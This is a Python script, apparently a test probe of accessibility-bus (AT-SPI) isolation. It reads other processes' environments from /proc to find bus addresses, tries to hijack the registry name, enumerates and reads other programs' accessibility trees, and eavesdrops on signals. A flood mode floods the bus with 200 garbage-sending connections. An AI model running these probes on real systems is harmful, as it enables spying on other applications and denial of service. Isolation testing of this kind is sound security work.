"""Tries to read other programs over the accessibility bus of its environment, and prints what it got as JSON.
`--flood` opens 200 connections instead, sends calls and garbage over them, and never reads."""
import glob
import json
import os
import socket
import sys
import time

ADDRESS = os.environ["AT_SPI_BUS_ADDRESS"]
DAEMON = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")
REGISTRY = "org.a11y.atspi.Registry"
ROOT = "/org/a11y/atspi/accessible/root"


def flood():
    connections = []
    for number in range(200):
        connection = socket.socket(socket.AF_UNIX)
        try:
            connection.connect(ADDRESS.removeprefix("unix:path="))
            connection.setblocking(False)
            connection.send(b"\0AUTH EXTERNAL 30\r\nBEGIN\r\n" + (b"l\1\0\1" + bytes(12) if number % 2 else b"\xff" * 99) * 999)
        except OSError:
            pass
        connections.append(connection)
    print("flooding", flush=True)
    time.sleep(1000)


def addresses():
    """The addresses of this compositor in the environments of all processes that this user can read."""
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            variables = open(path, "rb").read().split(b"\0")
        except OSError:
            continue
        found |= {v.split(b"=", 1)[1].decode() for v in variables if v.startswith(b"AT_SPI_BUS_ADDRESS=")}
    return sorted(a for a in found if os.path.dirname(a) == os.path.dirname(ADDRESS))


def steal(address):
    import gi
    from gi.repository import Gio, GLib

    flags = Gio.DBusConnectionFlags
    bus = Gio.DBusConnection.new_for_address_sync(
        address, flags.AUTHENTICATION_CLIENT | flags.MESSAGE_BUS_CONNECTION, None, None)

    def call(place, member, arguments=None):
        try:
            return bus.call_sync(*place, member, arguments, None, Gio.DBusCallFlags.NO_AUTO_START, 2000, None).unpack()
        except GLib.Error:
            return None

    signals = []
    bus.signal_subscribe(None, None, None, None, None, Gio.DBusSignalFlags.NONE, lambda *a: signals.append(a[4]))
    call((REGISTRY, "/org/a11y/atspi/registry", REGISTRY), "RegisterEvent", GLib.Variant("(sass)", ("object:", [], "")))
    claimed = call(DAEMON, "RequestName", GLib.Variant("(su)", (REGISTRY, 7)))
    names = [name for name in call(DAEMON, "ListNames")[0] if name != bus.get_unique_name()]
    roots = call((REGISTRY, ROOT, "org.a11y.atspi.Accessible"), "GetChildren")
    owned, read = [], []
    # The names that a bus usually gives, and those that it lists.
    for name in sorted({f":1.{number}" for number in range(1, 100)} | {n for n in names if n.startswith(":1.")}):
        if name == bus.get_unique_name():
            continue
        if call(DAEMON, "GetNameOwner", GLib.Variant("(s)", (name,))):
            owned.append(name)
        if call((name, ROOT, "org.a11y.atspi.Accessible"), "GetChildren"):
            read.append(name)
    context = GLib.MainContext.default()
    while context.pending():
        context.iteration(False)
    return {
        "claimed": claimed[0], "others": len([n for n in names if n.startswith(":1.")]),
        "roots": len(roots[0]) if roots else 0, "owned": len(owned), "read": len(read),
        "signals": len([s for s in signals if s not in ("NameAcquired", "EventListenerRegistered")]),
    }


if sys.argv[1:] == ["--flood"]:
    flood()
for address in addresses():
    print(json.dumps(steal(address)), flush=True)
